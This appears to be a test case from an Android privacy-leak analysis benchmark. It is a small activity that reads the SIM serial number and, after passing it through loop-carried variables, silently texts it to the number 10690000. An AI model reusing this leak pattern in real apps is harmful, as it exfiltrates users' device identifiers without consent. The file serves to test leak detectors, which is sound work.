package cn.privlens.suite.loop_carried;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        String a = ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getSimSerialNumber();
        String b = "";
        String c = "";
        for (int i = 0; i < 3; i++) {
            SmsManager.getDefault().sendTextMessage("10690000", null, c, null, null);
            c = b;
            b = a;
        }
    }
}
